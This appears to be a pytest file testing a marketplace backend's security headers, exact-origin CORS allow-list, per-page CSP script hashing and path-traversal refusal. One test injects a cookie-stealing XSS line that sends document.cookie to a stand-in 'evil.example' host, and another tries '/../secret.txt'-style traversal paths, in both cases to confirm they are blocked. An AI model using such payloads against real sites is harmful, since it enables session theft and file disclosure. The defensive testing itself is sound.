"""Security headers on every response, CORS from the allow-list, and the portals' per-page CSP."""

from __future__ import annotations

import base64
import hashlib
import re
from pathlib import Path

import azure.functions as func
import pytest

from devhost.http_server import FunctionsAsgiApp
from devhost.portals import PortalSite
from shared.auth import InMemoryRateLimiter, LocalIssuer
from shared.config import ConfigError, load_settings
from shared.http import ANYONE, ROUTES, ApiRequest, api, configure_http, cors_preflight, reset_http
from shared.http.security import HSTS_VALUE, inline_hashes, portal_csp, portal_headers

FIXTURES = Path(__file__).parent.parent / "fixtures" / "portals"
NEXT_PAGE = (FIXTURES / "next_export_index.html").read_text()
ISSUER = "http://localhost:7071/local-issuer"
SHOP = "https://shop.example.com"
AZURE_REQUIRED = {
    "APP_ENV": "azure",
    "DATABASE_URL": "postgresql://app@db.example:5432/market",
    "DATABASE_AUTH": "entra",
    "PAYOUT_TIN_KEY_ID": "https://kv.vault.azure.net/keys/payout-tin/1",
    "AUTH_JWKS_URL": "https://login.example/keys",
    "AUTH_ISSUER": "https://login.example/tenant/v2.0",
    "STRIPE_SECRET_KEY": "sk_live_x",
    "STRIPE_WEBHOOK_SECRET": "whsec_real",
    "STRIPE_CONNECT_WEBHOOK_SECRET": "whsec_connect_real",
}


def _settings(tmp_path: Path, **overrides):
    return load_settings(**{"VAR_DIR": tmp_path, "AUTH_ISSUER": ISSUER, "CORS_ALLOWED_ORIGINS": SHOP, **overrides})


@pytest.fixture
def edge(tmp_path: Path):
    def build(**overrides):
        saved = list(ROUTES)
        ROUTES.clear()
        issuer = LocalIssuer(tmp_path / "auth", issuer=ISSUER, audience="api://stock-marketplace")
        configure_http(
            validator=issuer.validator(), limiter=InMemoryRateLimiter(), settings=_settings(tmp_path, **overrides)
        )
        bp = func.Blueprint()

        @api(bp, "GET", "hello", roles=ANYONE, summary="Say hello")
        async def hello(request: ApiRequest) -> dict[str, str]:
            return {"hello": "world"}

        @api(bp, "GET", "admin-only", roles={"admin"}, summary="Admins only")
        async def admin_only(request: ApiRequest) -> None:
            return None

        cors_preflight(bp)
        app = func.FunctionApp()
        app.register_functions(bp)
        ROUTES[:] = saved
        return {f.get_function_name(): f.get_user_function() for f in app.get_functions()}

    yield build
    reset_http()


def _request(method: str, path: str, headers: dict[str, str] | None = None) -> func.HttpRequest:
    return func.HttpRequest(method, f"http://localhost:7071/api/{path}", headers=headers or {}, body=b"")


# --- every API response -------------------------------------------------------------------


async def test_success_and_problem_responses_carry_the_security_headers(edge):
    functions = edge()
    for response in (
        await functions["hello"](_request("GET", "hello")),
        await functions["admin_only"](_request("GET", "admin-only")),  # 401 problem
    ):
        headers = response.headers
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Referrer-Policy"] == "strict-origin-when-cross-origin"
        assert headers["X-Frame-Options"] == "DENY"
        csp = headers["Content-Security-Policy"]
        assert "default-src 'none'" in csp and "frame-ancestors 'none'" in csp
        assert "Strict-Transport-Security" not in headers  # plain http on a laptop must not pin https


async def test_hsts_is_sent_when_running_in_azure(edge):
    functions = edge(**AZURE_REQUIRED)
    response = await functions["hello"](_request("GET", "hello"))
    assert response.headers["Strict-Transport-Security"] == HSTS_VALUE


# --- CORS -----------------------------------------------------------------------------------


async def test_an_allow_listed_origin_may_read_the_response(edge):
    response = await edge()["hello"](_request("GET", "hello", {"Origin": SHOP}))
    assert response.headers["Access-Control-Allow-Origin"] == SHOP
    assert "Origin" in response.headers["Vary"]
    assert "x-correlation-id" in response.headers["Access-Control-Expose-Headers"]


async def test_any_other_origin_gets_no_cors_headers(edge):
    for origin in ("https://evil.example", "https://shop.example.com.evil.example", "null"):
        response = await edge()["hello"](_request("GET", "hello", {"Origin": origin}))
        assert response.status_code == 200  # the browser, not the server, withholds it
        assert not [h for h, _ in response.headers.items() if h.lower().startswith("access-control-")]


async def test_a_preflight_from_an_allow_listed_origin_is_granted(edge):
    preflight = _request(
        "OPTIONS",
        "admin-only",
        {"Origin": SHOP, "Access-Control-Request-Method": "PUT", "Access-Control-Request-Headers": "authorization"},
    )
    response = await edge()["cors_preflight"](preflight)
    assert response.status_code == 204
    assert response.headers["Access-Control-Allow-Origin"] == SHOP
    assert "PUT" in response.headers["Access-Control-Allow-Methods"]
    assert "authorization" in response.headers["Access-Control-Allow-Headers"]
    assert int(response.headers["Access-Control-Max-Age"]) > 0
    assert response.headers["X-Content-Type-Options"] == "nosniff"


async def test_a_preflight_from_another_origin_or_for_an_odd_method_is_not_granted(edge):
    functions = edge()
    for origin, method in (("https://evil.example", "GET"), (SHOP, "TRACE")):
        preflight = _request("OPTIONS", "hello", {"Origin": origin, "Access-Control-Request-Method": method})
        response = await functions["cors_preflight"](preflight)
        assert response.status_code == 204
        assert "Access-Control-Allow-Origin" not in response.headers


def test_the_allow_list_takes_exact_origins_only(tmp_path):
    assert _settings(
        tmp_path, CORS_ALLOWED_ORIGINS=" https://a.example , http://localhost:3000/ "
    ).cors_allowed_origins == (
        "https://a.example",
        "http://localhost:3000",
    )
    for bad in ("*", "https://*.example.com", "https://a.example/path", "ftp://a.example"):
        with pytest.raises(ConfigError, match="CORS_ALLOWED_ORIGINS"):
            _settings(tmp_path, CORS_ALLOWED_ORIGINS=bad)


def test_the_preflight_is_registered_for_the_real_app():
    from devhost.app_loader import load_app  # re-entrant, unlike a second app.get_functions()

    preflight = {f.name: f for f in load_app().http}["cors_preflight"]
    assert (preflight.route, sorted(preflight.methods)) == ("{*path}", ["OPTIONS"])


# --- the portals' CSP ------------------------------------------------------------------------


def _executable_inline_scripts(html: str) -> list[str]:
    """Independently of the parser under test: inline <script> bodies without src and without a data type."""
    found = []
    for attrs, body in re.findall(r"<script([^>]*)>(.*?)</script>", html, flags=re.S):
        if "src=" in attrs or re.search(r'type="application/(?:json|ld\+json)"', attrs):
            continue
        found.append("'sha256-" + base64.b64encode(hashlib.sha256(body.encode()).digest()).decode() + "'")
    return found


def _directives(policy: str) -> dict[str, list[str]]:
    return {part.split()[0]: part.split()[1:] for part in policy.split("; ")}


def test_a_next_export_page_is_allowed_exactly_its_own_inline_scripts(tmp_path):
    policy = _directives(portal_csp(NEXT_PAGE, _settings(tmp_path)))
    expected = _executable_inline_scripts(NEXT_PAGE)
    assert len(expected) >= 2  # the Turbopack bootstrap and the __next_f flight pushes
    assert policy["script-src"] == ["'self'", *dict.fromkeys(expected)]
    assert "'unsafe-inline'" not in policy["script-src"] and "'unsafe-eval'" not in policy["script-src"]
    assert policy["frame-ancestors"] == ["'none'"]
    assert policy["object-src"] == ["'none'"]
    assert policy["style-src"] == ["'self'"]  # this page has no <style> element


def test_an_injected_script_is_not_covered_by_the_page_policy(tmp_path):
    settings = _settings(tmp_path)
    injected = NEXT_PAGE.replace("</body>", "<script>fetch('https://evil.example/?c='+document.cookie)</script></body>")
    scripts, _ = inline_hashes(injected)
    policy = _directives(portal_csp(NEXT_PAGE, settings))
    assert set(scripts) - set(policy["script-src"]), "the attacker's script would have been allowed"


def test_json_data_scripts_need_no_hash_and_style_elements_are_hashed():
    page = (
        "<html><head><style>body{margin:0}</style></head><body>"
        '<script id="__NEXT_DATA__" type="application/json">{"props":{}}</script>'
        '<script type="module">import("/x.js")</script></body></html>'
    )
    scripts, styles = inline_hashes(page)
    assert scripts == _executable_inline_scripts(page) and len(scripts) == 1
    assert styles == ["'sha256-" + base64.b64encode(hashlib.sha256(b"body{margin:0}").digest()).decode() + "'"]


def test_the_page_may_load_public_images_and_talk_to_the_issuer(tmp_path):
    settings = _settings(tmp_path, STORAGE_PUBLIC_BASE_URL="https://cdn.example.net/media")
    headers = portal_headers(NEXT_PAGE, settings, blob_origin="http://127.0.0.1:10000")
    policy = _directives(headers["Content-Security-Policy"])
    assert {"https://cdn.example.net", "http://127.0.0.1:10000"} <= set(policy["img-src"])
    assert "http://localhost:7071" in policy["connect-src"]  # the issuer's origin (sign-in, token refresh)
    assert "http://127.0.0.1:10000" in policy["connect-src"]  # uploads PUT to blob storage
    assert "evil" not in headers["Content-Security-Policy"]


# --- devhost serves the export with those headers --------------------------------------------


@pytest.fixture
def export(tmp_path: Path) -> Path:
    root = tmp_path / "out"
    (root / "contributor").mkdir(parents=True)
    (root / "_next" / "static" / "chunks").mkdir(parents=True)
    (root / "index.html").write_text(NEXT_PAGE)
    (root / "contributor" / "index.html").write_text("<html><script>self.__next_f=[]</script></html>")
    (root / "404.html").write_text("<html>not here</html>")
    (root / "_next" / "static" / "chunks" / "a.js").write_text("console.log(1)")
    (tmp_path / "secret.txt").write_text("outside the export")
    return root


async def _get(app: FunctionsAsgiApp, path: str, method: str = "GET") -> tuple[int, dict[str, str], bytes]:
    status, headers, body = await app._handle(
        {"type": "http", "method": method, "path": path, "headers": [], "query_string": b""}, None
    )
    return status, {k.decode(): v.decode() for k, v in headers}, body


async def test_devhost_serves_each_page_with_a_policy_made_from_it(export, tmp_path):
    settings = _settings(tmp_path)
    app = FunctionsAsgiApp([], site=PortalSite(settings, None, export, blob_origin="http://127.0.0.1:10000"))
    status, headers, body = await _get(app, "/")
    assert status == 200 and body.decode() == NEXT_PAGE
    assert headers["content-security-policy"] == portal_csp(
        NEXT_PAGE,
        settings,
        img_sources=["http://127.0.0.1:10000"],
        # sign-in at the issuer, and uploads PUT straight to blob storage
        connect_sources=["http://localhost:7071", "http://127.0.0.1:10000"],
    )
    assert headers["x-content-type-options"] == "nosniff" and headers["cache-control"] == "no-cache"
    status, headers, _ = await _get(app, "/contributor/")
    assert status == 200 and _inline_hash("self.__next_f=[]") in headers["content-security-policy"]
    status, headers, _ = await _get(app, "/_next/static/chunks/a.js")
    assert status == 200 and "immutable" in headers["cache-control"]
    assert headers["content-type"].startswith(("text/javascript", "application/javascript"))


def _inline_hash(code: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(code.encode()).digest()).decode() + "'"


async def test_devhost_never_serves_outside_the_export_and_answers_unknown_paths_404(export, tmp_path):
    app = FunctionsAsgiApp([], site=PortalSite(_settings(tmp_path), None, export))
    for path in ("/../secret.txt", "/contributor/../../secret.txt", "/nothing-here"):
        status, headers, body = await _get(app, path)
        assert status == 404 and b"outside" not in body
        assert headers["x-content-type-options"] == "nosniff"


async def test_devhost_own_problems_carry_the_security_headers(tmp_path):
    app = FunctionsAsgiApp([])
    status, headers, _ = await _get(app, "/api/nothing")
    assert status == 404
    assert headers["x-content-type-options"] == "nosniff"
    assert "frame-ancestors 'none'" in headers["content-security-policy"]


def test_the_static_web_app_config_allows_exactly_the_exports_inline_scripts(export):
    from shared.http.portal_config import static_web_app_config

    config = static_web_app_config(
        export,
        issuer="https://tenant.ciamlogin.com/tid/v2.0",
        blob_endpoint="https://stabc.blob.core.windows.net/",
        front_door_id="fd-guid",
    )
    headers = config["globalHeaders"]
    policy = _directives(headers["Content-Security-Policy"])
    expected = {*_executable_inline_scripts(NEXT_PAGE), _inline_hash("self.__next_f=[]")}
    assert set(policy["script-src"]) == {"'self'", *expected}
    assert policy["frame-ancestors"] == ["'none'"] and "https://tenant.ciamlogin.com" in policy["connect-src"]
    assert "https://stabc.blob.core.windows.net" in policy["connect-src"]  # the studio PUTs uploads there
    assert headers["Strict-Transport-Security"] == HSTS_VALUE and headers["X-Content-Type-Options"] == "nosniff"
    assert config["forwardingGateway"]["requiredHeaders"] == {"X-Azure-FDID": "fd-guid"}
